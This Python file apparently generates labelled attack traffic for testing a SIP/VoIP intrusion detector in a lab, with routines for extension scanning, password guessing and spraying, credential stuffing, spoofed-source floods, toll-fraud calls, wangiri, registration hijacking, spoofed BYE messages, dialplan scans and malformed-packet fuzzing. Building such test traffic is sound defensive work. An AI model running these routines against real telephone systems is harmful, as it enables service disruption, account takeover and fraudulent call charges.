"""Attacks, each a coroutine (world) that drives real traffic and labels it. World has clock, labels, rng and helpers."""
import asyncio
import os
import socket
import subprocess

from agents import REALM, SERVER, Agent

SPOOFED = "Yealink SIP-T46S 66.86.0.15"


async def tool(world, kind, src, *command, cwd="/tmp", **more):
    """Runs an attack tool and labels what it did as one event."""
    # Not every tool binds to the address it is given, so the route to the server prefers it.
    subprocess.check_call(["ip", "route", "replace", "local", SERVER[0], "dev", "lo", "table", "local", "src", src])
    first = world.clock.now()
    process = await asyncio.create_subprocess_exec(*command, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
                                                   stdin=asyncio.subprocess.DEVNULL, cwd=cwd, env={**os.environ, "TERM": "dumb"})
    try:
        await asyncio.wait_for(process.wait(), more.pop("limit", 90))
    except asyncio.TimeoutError:
        process.kill()
    subprocess.check_call(["ip", "route", "replace", "local", SERVER[0], "dev", "lo", "table", "local"])
    world.labels.add(kind, True, src, first, tool=" ".join(command), **more)


async def svmap_slow(w):
    await w.phones(6)
    await tool(w, "scan-options", "203.0.113.7", "svmap", "-b", "203.0.113.7", "-t", "0.3", "-p5060-5062", "198.18.0.8/29", limit=60)


async def svmap_invite_compact(w):
    await tool(w, "scan-options", "203.0.113.8", "svmap", "-b", "203.0.113.8", "-m", "INVITE", "-c", "198.18.0.10", "198.18.0.11", limit=40)


async def svwar_leaky(w):
    await w.phones(6)
    await tool(w, "enumeration-register", "203.0.113.9", "svwar", "-b", "203.0.113.9", "-e1560-1640", "-m", "REGISTER", SERVER[0], limit=60)
    await tool(w, "enumeration-invite", "203.0.113.10", "svwar", "-b", "203.0.113.10", "-e1590-1620", "-m", "INVITE", SERVER[0], limit=60)


async def enumeration_hardened(w):
    """A server that challenges everybody (svwar gives up there): one REGISTER for each user, as a telephone would send it."""
    for ip, tcp, gap in (("203.0.113.11", False, 12), ("203.0.113.14", True, 3), ("fd00:66::9", False, 0.2)):
        scanner = await Agent(w.clock, ip, "100", "x", "zoiper", tcp=tcp, agent=SPOOFED).start()
        for n in range(22):
            first = w.clock.now()
            scanner.user = str(1580 + n)
            w.labels.add("enumeration-register", True, ip, first, user=scanner.user, codes=await scanner.register(fresh=True, login=False))
            await w.clock.jump(gap)
        scanner.close()


async def enumeration_slow(w):
    """A user that does not exist each minute and a half, INVITE and OPTIONS, against a server that tells."""
    scanner = await Agent(w.clock, "203.0.113.15", "100", "x", "bria").start()
    for n in range(40):
        first = w.clock.now()
        method = "INVITE" if n % 2 else "OPTIONS"
        codes, _, _ = await scanner.request(method, f"sip:{1590 + n}@{REALM}", login=False)
        w.labels.add(f"enumeration-{method.lower()}", True, scanner.ip, first, codes=codes)
        await w.clock.jump(90)


async def svcrack_dictionary(w):
    words = os.path.join(w.folder, "words.txt")
    with open(words, "w") as file:
        file.write("\n".join(["secret", "admin", "1234", "0000", "letmein", "qwerty", "asdf", "1005"]))
    await w.phones(4)
    await tool(w, "password-crack", "203.0.113.12", "svcrack", "-b", "203.0.113.12", "-u", "1005", "-d", words, SERVER[0], limit=60)
    await tool(w, "password-crack", "203.0.113.13", "svcrack", "-b", "203.0.113.13", "-u", "1010", "-r1000-1030", SERVER[0], limit=60)


async def guessing_spoofed(w):
    """A tool that looks like a telephone: new Call-ID each time, honest CSeq; ten accounts, then one with its password."""
    for tcp, ip in ((False, "203.0.113.20"), (True, "203.0.113.21")):
        users = [str(1000 + w.rng.randrange(60)) for _ in range(5)]
        for n in range(20):
            agent = await Agent(w.clock, ip, users[n % 5], f"guess{n}", "zoiper", port=5060 + n, tcp=tcp, agent=SPOOFED).start()
            first = w.clock.now()
            codes = await agent.register(fresh=True)
            w.labels.add("password-guessing", True, ip, first, user=agent.user, codes=codes)
            agent.close()
            await w.clock.jump(w.rng.uniform(2, 9))
        agent = await Agent(w.clock, ip, users[0], None, "zoiper", port=5090, tcp=tcp, agent=SPOOFED).start()
        first = w.clock.now()
        w.labels.add("password-guessed", True, ip, first, user=users[0], codes=await agent.register(fresh=True))
        agent.close()


async def guessing_one_account(w):
    """Forty guesses for one account that lives elsewhere, from one address, six seconds apart."""
    await w.phones(4)
    await w.clock.jump(600)
    for n in range(40):
        agent = await Agent(w.clock, "203.0.113.22", "1001", f"guess{n}", "microsip", port=6000 + n, agent=SPOOFED).start()
        first = w.clock.now()
        w.labels.add("password-guessing", True, "203.0.113.22", first, user="1001", codes=await agent.register(fresh=True))
        agent.close()
        await w.clock.jump(6)


async def guess_burst(w):
    """Twelve guesses at one account in fifteen seconds, later twelve at three accounts; all of them live elsewhere."""
    await w.phones(6)
    await w.clock.jump(900)
    for ip, accounts, gap, style, name in (("203.0.113.101", 1, 1.2, "snom", "snomD785/10.1.64.14"), ("203.0.113.102", 3, 2, "grandstream", "Grandstream GXP1625 1.0.4.132")):
        for n in range(12):
            agent = await Agent(w.clock, ip, str(1002 + n % accounts), f"g{n}", style, port=6000 + n, agent=name).start()
            first = w.clock.now()
            w.labels.add("password-guessing", True, ip, first, user=agent.user, codes=await agent.register(fresh=True))
            agent.close()
            await w.clock.jump(gap)
        await w.clock.jump(2000)


async def spray_slow(w):
    """One password for many accounts, a try every two minutes."""
    for n in range(30):
        agent = await Agent(w.clock, "203.0.113.23", str(1000 + n * 3), "Winter2026", "linphone", port=6000 + n).start()
        first = w.clock.now()
        w.labels.add("password-spray", True, "203.0.113.23", first, user=agent.user, codes=await agent.register(fresh=True))
        agent.close()
        await w.clock.jump(110)


async def spray_ipv6(w):
    for n in range(16):
        agent = await Agent(w.clock, "fd00:66::5", str(1000 + n), "Summer2026", "grandstream", port=6000 + n).start()
        first = w.clock.now()
        w.labels.add("password-spray", True, "fd00:66::5", first, user=agent.user, codes=await agent.register(fresh=True))
        agent.close()
        await w.clock.jump(20)


async def stuffing(w, accounts=18, sources=25, tries=80, gap=240, success=True):
    """Many accounts from many addresses, few tries each; at the end one password fits."""
    await w.phones(accounts)
    await w.clock.jump(300)
    for n in range(tries):
        ip = f"192.0.2.{10 + n % sources}"
        agent = await Agent(w.clock, ip, str(1000 + w.rng.randrange(accounts)), f"x{n}", "linphone", port=5070 + n // sources, agent=SPOOFED).start()
        first = w.clock.now()
        w.labels.add("credential-stuffing", True, ip, first, user=agent.user, codes=await agent.register(fresh=True))
        agent.close()
        await w.clock.jump(w.rng.uniform(gap / 2, gap))
    if success:
        agent = await Agent(w.clock, "192.0.2.12", "1003", None, "linphone", port=5099, agent=SPOOFED).start()
        first = w.clock.now()
        w.labels.add("credential-stuffing", True, "192.0.2.12", first, user="1003", codes=await agent.register(fresh=True))
        agent.close()


async def stuffing_one_account(w):
    await w.phones(3)
    for n in range(14):
        agent = await Agent(w.clock, f"192.0.2.{100 + n}", "1001", f"y{n}", "microsip", agent=SPOOFED).start()
        first = w.clock.now()
        w.labels.add("distributed-guessing", True, agent.ip, first, user="1001", codes=await agent.register(fresh=True))
        agent.close()
        await w.clock.jump(200)


def packet(method, ip, port, user, to, n, rng, agent="SPA525"):
    call_id = "%032x" % rng.getrandbits(128)
    return (f"{method} sip:{to}@{REALM} SIP/2.0\r\nVia: SIP/2.0/UDP {ip}:{port};rport;branch=z9hG4bK{rng.getrandbits(48):x}\r\nMax-Forwards: 70\r\n"
            f"From: <sip:{user}@{REALM}>;tag={rng.getrandbits(32):x}\r\nTo: <sip:{to}@{REALM}>\r\nCall-ID: {call_id}\r\nCSeq: {n % 9000 + 1} {method}\r\n"
            f"Contact: <sip:{user}@{ip}:{port}>\r\nUser-Agent: {agent}\r\nContent-Length: 0\r\n\r\n").encode()


async def flood(w, kind, method, sources, rate, seconds, to="1001"):
    """`rate` requests a second in all, spread over the sources."""
    sockets = []
    for ip in sources:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((ip, 5062))
        s.setblocking(False)
        sockets.append((ip, s))
    first = w.clock.now()
    loop = asyncio.get_running_loop()
    begin = loop.time()
    for n in range(int(rate * seconds)):
        ip, s = sockets[n % len(sockets)]
        user = str(w.rng.randrange(1000, 1600))
        target = {"REGISTER": user, "INVITE": to}.get(method, "")
        text = packet(method, ip, 5062, user, target, n, w.rng)
        if method == "OPTIONS":
            text = text.replace(b"sip:@", b"sip:")
        try:
            s.sendto(text, SERVER)
        except BlockingIOError:
            pass
        wait = begin + (n + 1) / rate - loop.time()
        if wait > 0:
            await asyncio.sleep(wait)
    await asyncio.sleep(0.5)
    w.labels.add(kind, True, sources if len(sources) > 1 else sources[0], first, count=int(rate * seconds), rate_per_s=rate)
    for _, s in sockets:
        s.close()


async def floods_one_source(w):
    await w.phones(5)
    for n, (method, rate, seconds) in enumerate([("REGISTER", 40, 12), ("INVITE", 25, 14), ("OPTIONS", 60, 12), ("OPTIONS", 18, 40)]):
        await flood(w, f"{method.lower()}-flood", method, [f"203.0.113.{60 + n}"], rate, seconds)
        await w.clock.jump(200)


async def floods_pike(w):
    await w.phones(5)
    for n, (method, rate, seconds) in enumerate([("REGISTER", 120, 6), ("INVITE", 80, 6), ("OPTIONS", 300, 4)]):
        await flood(w, f"{method.lower()}-flood", method, [f"203.0.113.{70 + n}"], rate, seconds)
        await w.clock.jump(200)


async def flood_50(w):
    await w.phones(5)
    await flood(w, "register-flood", "REGISTER", [f"192.0.2.{n}" for n in range(1, 61)], 150, 10)


async def flood_2000(w):
    await w.phones(5)
    await flood(w, "invite-flood", "INVITE", [f"100.64.{n // 250}.{n % 250 + 1}" for n in range(2000)], 300, 14)


async def flood_spread(w):
    """Every source sends a REGISTER or two: no limit per source sees it."""
    await w.phones(5)
    await flood(w, "register-flood", "REGISTER", [f"100.65.{n // 250}.{n % 250 + 1}" for n in range(500)], 45, 16)


async def flood_sipp(w):
    """SIPp retransmits what the server's flood protection drops, so most packets are repetitions."""
    await w.phones(5)
    await tool(w, "invite-flood", "203.0.113.80", "sipp", "-sn", "uac", "-i", "203.0.113.80", "-p", "5066", "-s", "1002", "-r", "40", "-m", "600",
               "-timeout", "30s", "-nostdin", "198.18.0.10:5060", limit=40)


async def toll_fraud(w, numbers=("+2526110{:05d}", "+53590{:05d}", "+96079{:05d}", "+88216{:07d}"), calls=30, at_once=4, gap=40):
    phone = await Agent(w.clock, "10.1.0.42", "1042", None, "yealink").start()
    first = w.clock.now()
    w.labels.add("reg-new", False, phone.ip, first, user="1042", codes=await phone.register())
    await w.clock.jump(3000)
    thief = await Agent(w.clock, "203.0.113.30", "1042", None, "zoiper").start()
    first = w.clock.now()
    w.labels.add("account-takeover-register", True, thief.ip, first, user="1042", codes=await thief.register())
    live = []
    for n in range(calls):
        first = w.clock.now()
        codes, call_id = await thief.call(w.rng.choice(numbers).format(w.rng.randrange(10**5)))
        w.labels.add("toll-fraud-call-setup", True, thief.ip, first, user="1042", codes=codes)
        live.append(call_id)
        await w.clock.jump(w.rng.uniform(gap / 2, gap))
        if len(live) >= at_once:
            await thief.hang_up(live.pop(0))
    for call_id in live:
        await thief.hang_up(call_id)
    thief.close()
    phone.close()


async def toll_fraud_sequential(w):
    """One call at a time, dialled with 00 and without a plus, eight seconds each, at three in the afternoon."""
    await toll_fraud(w, ("002526110{:05d}", "22507{:05d}888", "0088216{:07d}"), calls=14, at_once=1, gap=16)


async def wangiri(w, users=24, gap=40, blocks=1):
    phones = await w.phones(users, answer="ring")
    await w.clock.jump(900)
    trunk = w.trunk
    for n, phone in enumerate(phones):
        first = w.clock.now()
        caller = f"+2169893{n % blocks}{w.rng.randrange(1000):03d}1"
        codes, call_id = await trunk.call(phone.user, cancel_after=w.rng.uniform(0.2, 1.2), login=False, frm=f"sip:{caller}@carrier.example")
        w.labels.add("wangiri", True, trunk.ip, first, callee=phone.user, caller=caller, codes=codes, call_id=call_id)
        await w.clock.jump(w.rng.uniform(gap / 2, gap))


async def wangiri_slow(w):
    await wangiri(w, users=20, gap=480)


async def hijack(w):
    """The stranger's telephone is of the make that its victim has; it removes all bindings and takes the calls."""
    phones = await w.phones(6)
    await w.clock.jump(1800)
    victims = phones[:2]
    for n, victim in enumerate(victims):
        thief = await Agent(w.clock, f"203.0.113.{40 + n}", victim.user, None, "zoiper" if n else "microsip", agent=victim.agent if n else None).start()
        first = w.clock.now()
        codes = await thief.register(expires=0, contact="*")
        codes += await thief.register(fresh=True)
        w.labels.add("reg-hijack", True, thief.ip, first, user=victim.user, codes=codes)
        await w.clock.jump(120)
        thief.close()


async def hijack_add(w):
    """A second binding of another make from another network; forty seconds later it removes the owner's."""
    phones = await w.phones(4)
    await w.clock.jump(1500)
    thief = await Agent(w.clock, "203.0.113.130", phones[2].user, None, "bria").start()
    first = w.clock.now()
    codes = await thief.register(fresh=True)
    await w.clock.jump(40)
    codes += await thief.register(expires=0, contact=f"<sip:{phones[2].user}@{phones[2].ip}:5060>", fresh=True)
    w.labels.add("reg-hijack", True, thief.ip, first, user=phones[2].user, codes=codes)
    thief.close()


async def foreign_removal(w):
    phones = await w.phones(4)
    await w.clock.jump(900)
    thief = await Agent(w.clock, "203.0.113.45", phones[1].user, None, "bria").start()
    first = w.clock.now()
    contact = f"<sip:{phones[1].user}@{phones[1].ip}:5060>"
    w.labels.add("reg-hijack", True, thief.ip, first, user=phones[1].user, codes=await thief.register(expires=0, contact=contact))
    thief.close()


async def bye_spoof(w):
    phones = await w.phones(4)
    spoofer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    spoofer.bind(("203.0.113.50", 5099))
    for caller, callee in ((phones[0], phones[1]), (phones[2], phones[3])):
        codes, call_id = await caller.call(callee.user)
        await w.clock.jump(20)
        call = caller.calls.get(call_id)
        first = w.clock.now()
        bye = caller.build("BYE", call["target"], call["to"], call_id, call["cseq"] + 7, call["tag"]).replace(f"UDP {caller.ip}", "UDP 203.0.113.50")
        spoofer.sendto(bye.encode(), (callee.ip, 5060))
        spoofer.sendto(bye.encode(), SERVER)
        await asyncio.sleep(0.3)
        w.labels.add("bye-spoof", True, "203.0.113.50", first, victim_call_id=call_id)
        await w.clock.jump(30)
        await caller.hang_up(call_id)
    spoofer.close()


async def dialplan(w):
    for ip, tcp, agent, tail, gap in (("203.0.113.55", False, "PolycomVVX-VVX_411-UA/5.9.7.3480", "441904911000", 1), ("203.0.113.56", True, SPOOFED, "972592277524", 25)):
        scanner = await Agent(w.clock, ip, "100", "x", "microsip", tcp=tcp, agent=agent).start()
        for prefix in ("", "0", "00", "9", "900", "9011", "011", "+", "810"):
            first = w.clock.now()
            codes, _ = await scanner.call(prefix + tail, login=False)
            w.labels.add("dialplan-scan", True, ip, first, codes=codes)
            await w.clock.jump(gap)
        scanner.close()


BROKEN = [
    b"INVITE sip:1001@sip.example SIP/2.0\r\nVia: SIP/2.0/UDP 1.2.3.4\r\nCSeq: 99999999999999 INVITE\r\nContent-Length: -5\r\n\r\n",
    b"REGISTER sip:sip.example SIP/9.9\r\nVia: SIP/2.0/UDP 1.2.3.4;branch=z9hG4bKa\r\nFrom: <sip:1@x>;tag=1\r\nTo: <sip:1@x>\r\nCall-ID: 1\r\nCSeq: 1 REGISTER\r\n\r\n",
    b"INVITE  sip:1001@sip.example  SIP/2.0\r\nTo\r\nFrom:\r\nCall-ID:\r\nCSeq: INVITE 1\r\n\r\n",
    b"OPTIONS sip:%00%00@sip.example SIP/2.0\r\nVia: SIP/2.0/UDP " + b"A" * 900 + b"\r\nFrom: <sip:\xff\xfe@x>;tag=2\r\nTo: <sip:x>\r\nCall-ID: 2\r\nCSeq: 2 OPTIONS\r\n\r\n",
    b"INVITE sip:1001@sip.example SIP/2.0\r\nVia: SIP/2.0/UDP 1.2.3.4;branch=z9hG4bKb\r\nFrom: \"' or 1=1 --\" <sip:' or ''='@sip.example>;tag=3\r\nTo: <sip:1001@sip.example>\r\nCall-ID: 3@x\r\nCSeq: 3 INVITE\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n",
    b"SIP/2.0 200\r\nVia\r\n\r\n",
    b"BYE sip:1001@sip.example SIP/2.0\r\nVia: SIP/2.0/UDP 1.2.3.4;branch=z9hG4bKc\r\nFrom: <sip:a@b>;tag=4\r\nTo: <sip:c@d>\r\nCall-ID: 4\r\nCSeq: 4 INVITE\r\nContent-Length: 0\r\n\r\n",
    b"INVITE sip:[::1 SIP/2.0\r\nVia: SIP/2.0/UDP 1.2.3.4;branch=z9hG4bKd\r\nFrom: <sip:a@b>;tag=5\r\nTo: <sip:c@d\r\nCall-ID: 5\r\nCSeq: 5 INVITE\r\nContent-Length: 9999\r\n\r\nx",
]


async def fuzzer(w):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("203.0.113.57", 5060))
    for n in range(24):
        message = bytearray(BROKEN[n % len(BROKEN)])
        for _ in range(n // len(BROKEN)):
            message[w.rng.randrange(8, len(message))] = w.rng.randrange(256)
        first = w.clock.now()
        s.sendto(bytes(message), SERVER)
        w.labels.add("malformed", True, "203.0.113.57", first)
        await w.clock.jump(w.rng.uniform(0.1, 8))
    s.close()


async def nonsip(w):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("203.0.113.58", 40000))
    probes = [b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04bind\x00\x00\x10\x00\x03", b"GET / HTTP/1.0\r\n\r\n",
              b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(60), b"\x30\x26\x02\x01\x01\x04\x06public", b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n",
              b"\xff\xff\xff\xffgetstatus", b"\x00\x01\x02\x03", b"stats\r\n"]
    for probe in probes:
        first = w.clock.now()
        s.sendto(probe, SERVER)
        w.labels.add("nonsip-probe", True, "203.0.113.58", first)
        await w.clock.jump(3)
    s.close()


ALL = {f.__name__: f for f in (svmap_slow, svmap_invite_compact, svwar_leaky, enumeration_hardened, enumeration_slow, svcrack_dictionary, guessing_spoofed, guessing_one_account, guess_burst,
                               spray_slow, spray_ipv6, stuffing, stuffing_one_account, floods_one_source, floods_pike, flood_50, flood_2000, flood_spread, flood_sipp,
                               toll_fraud, toll_fraud_sequential, wangiri, wangiri_slow, hijack, hijack_add, foreign_removal, bye_spoof, dialplan, fuzzer, nonsip)}
LEAKY = {"svwar_leaky", "enumeration_slow"}
PIKE = {"floods_pike", "flood_sipp"}
